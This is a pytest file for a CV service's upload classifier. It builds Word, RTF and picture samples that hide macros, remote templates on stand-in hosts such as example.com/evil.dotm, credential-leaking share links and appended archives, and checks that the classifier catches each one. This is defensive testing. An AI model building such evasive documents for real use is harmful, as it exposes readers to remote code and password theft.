"""Documents that hide what they do from whoever only glances at them; what programs see is what counts."""

from __future__ import annotations

import time

import pytest
from cv_matching.domain.chain import SenderEvidence
from cv_matching.domain.kinds import KEPT_APART, Kind, kind_of
from cv_matching.handlers.evidence import read_paper
from cv_matching_support import files
from cv_matching_support import hostile_packages as packages
from cv_matching_support.hostile_rest import a_compound, a_rtf

_TEMPLATE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
_WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
_MACROS = "application/vnd.ms-office.vbaProject"
_BODY = ("word/document.xml", packages.paragraphs(packages.hello()))


def types(inner: str, before: str = "") -> tuple[str, str]:
    main = f'<Override PartName="/word/document.xml" ContentType="{_WORD}"/>'
    return "[Content_Types].xml", f"<Types>{before}{main}{inner}</Types>"


def macros(kind: str = _MACROS) -> str:
    return f'<Override PartName="/word/x.bin" ContentType="{kind}"/>'


def relation(attributes: str, before: str = "") -> bytes:
    part = f'<Relationships>{before}<Relationship Id="r" Type="{_TEMPLATE}" {attributes}/></Relationships>'
    return packages.zipped(types(""), _BODY, ("word/_rels/settings.xml.rels", part))


PADDING = "<!--" + "padding " * 40_000 + "-->"
EVIL = "http://example.com/evil.dotm"
HIDDEN = {
    "macros spelt with references": packages.zipped(
        types(macros("application/vnd.ms-office.vba&#80;roj&#x65;ct")), _BODY
    ),
    "macros behind much padding": packages.zipped(types(macros(), before=PADDING), _BODY),
    "macros behind 5,000 parts": packages.zipped(
        types(""), _BODY, *((f"x/{at}", b"") for at in range(5_000)), ("word/vbaProject.bin", b"x")
    ),
    "macros told by the first of two lists": packages.zipped(types(macros()), _BODY, types("")),
    "macros in a list of two-byte letters without a mark": packages.zipped(
        ("[Content_Types].xml", types(macros())[1].encode("utf-16-le")), _BODY
    ),
    "a template, outside by reference": relation(f'Target="{EVIL}" TargetMode="Extern&#97;l"'),
    "a template, address by reference": relation('Target="&#104;ttp://example.com/" TargetMode="External"'),
    "a template, wide": relation(f'Target{" " * 20}={" " * 20}"{EVIL}" TargetMode{" " * 20}="External"'),
    "a template behind much padding": relation(f'Target="{EVIL}" TargetMode="External"', before=PADDING),
    "a template behind 64 parts": packages.zipped(
        types(""),
        _BODY,
        *((f"x/_rels/{at}.rels", "<x/>") for at in range(70)),
        (
            "word/_rels/settings.xml.rels",
            f'<Relationship Type="{_TEMPLATE}" Target="{EVIL}" TargetMode="External"/>',
        ),
    ),
    "a template, slashes mixed": relation('Target="\\/198.51.100.7/share/evil.dotm" TargetMode="External"'),
    "a template over WebDAV": relation('Target="dav://example.com/evil.dotm" TargetMode="External"'),
    "a picture on a share, which takes the password along": packages.related(
        "image", "file://198.51.100.7/share/x.png", "word/_rels/document.xml.rels"
    ),
    "both kinds of package": packages.zipped(
        ("mimetype", "application/vnd.oasis.opendocument.text"), types(""), _BODY, ("Basic/M.xml", "x")
    ),
    "rtf: template in hexadecimal": a_rtf(rb"{\*\template \'68ttp://example.com/evil.dot}"),
    "rtf: template over two lines": a_rtf(b"{\\*\\template ht\r\ntp://example.com/evil.dot}"),
    "rtf: template by numbers": a_rtf(rb"{\*\template \u104?ttp://example.com/evil.dot}"),
    "rtf: template far away": a_rtf(b"{\\*\\template " + b" " * 20 + b"http://example.com/evil.dot}"),
    "rtf: a picture on a share": a_rtf(rb'{\field{\*\fldinst INCLUDEPICTURE "\\\\198.51.100.7\\x.png"}}'),
    "rtf: a zip as well": a_rtf(b"") + files.an_archive("run.js", b"alert(1)"),
    "doc: a program inside": a_compound("WordDocument", "\x01Ole10Native"),
    "doc: an equation": a_compound("WordDocument", "Equation Native"),
    "picture: a zip as well": files.a_picture(200) + files.an_archive("run.js", b"alert(1)"),
}


@pytest.mark.parametrize("what", sorted(HIDDEN))
def test_what_a_document_hides_is_found(what: str) -> None:
    assert kind_of(HIDDEN[what]) in KEPT_APART


@pytest.mark.parametrize(
    "good",
    [
        packages.zipped(types("", before="<!-- short -->"), _BODY),
        packages.related("image", "https://example.com/ana.png", "word/_rels/document.xml.rels"),
        packages.related("attachedTemplate", r"C:\Users\ana\CV.dotx"),
        packages.related("hyperlink", "mailto:ana@example.com", "word/_rels/document.xml.rels"),
    ],
)
def test_what_word_writes_by_itself_is_still_a_cv(good: bytes) -> None:
    assert kind_of(good) is Kind.DOCX


def test_a_template_on_the_authors_own_disk_is_no_harm_in_rtf_either() -> None:
    assert kind_of(a_rtf(rb"{\*\template C:\\Users\\\u536?tefan\\CV.dot}")) is Kind.RTF


def test_telling_a_kind_costs_no_more_than_its_size_whatever_is_inside() -> None:
    """Seconds here would be seconds in which the service does nothing else."""
    references = packages.zipped(types(""), _BODY, *((f"x/{at}.rels", b"&#65;" * 52_000) for at in range(64)))
    spaces = a_rtf(b"INCLUDEPICTURE " + b" " * 2_000_000)
    begun = time.process_time()
    kinds = (kind_of(references), kind_of(spaces))
    assert time.process_time() - begun < 2
    assert kinds == (Kind.ACTIVE_DOCUMENT, Kind.RTF)


def test_a_line_of_twenty_thousand_letters_is_looked_through_for_addresses_at_once() -> None:
    begun = time.process_time()
    assert read_paper("bacede." * 2_900 + " ana@example.com", SenderEvidence(), "x").emails == {
        "ana@example.com"
    }
    assert time.process_time() - begun < 0.5
